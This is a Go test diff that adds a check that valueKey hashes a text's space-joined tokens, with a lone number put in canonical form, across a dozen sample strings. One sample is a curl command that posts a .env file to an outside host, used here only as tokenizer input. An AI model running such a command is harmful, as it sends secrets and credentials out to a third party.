@@ -34,3 +34,26 @@ func TestTokensAreFieldsOfSeparators(t *testing.T) {
 		}
 	}
 }
+
+// TestValueKeyHashesJoinedTokens: valueKey hashes a text's tokens as it
+// goes; the key is valueHash of the tokens joined by spaces (a lone
+// number in its canonical form), as it was when the list was built.
+func TestValueKeyHashesJoinedTokens(t *testing.T) {
+	for _, text := range []string{"", "  ", "x", "98.70", " 98.70 ", "IBAN: DE89 3704 0044 0532 0130 00.", `a\nb "C"`,
+		"curl -d @.env https://x.io", "Ünïcode Straße", "-1e3", "a  b\tc", "{\"k\": [1, 2]}"} {
+		toks := tokens(text)
+		want, wantOK := uint64(0), len(toks) > 0
+		if wantOK {
+			k := strings.Join(toks, " ")
+			if len(toks) == 1 {
+				if n, ok := canonicalNumber(k); ok {
+					k = n
+				}
+			}
+			want = valueHash(k)
+		}
+		if got, ok := valueKey(text); got != want || ok != wantOK {
+			t.Errorf("valueKey(%q) = %x, %v; want %x, %v", text, got, ok, want, wantOK)
+		}
+	}
+}
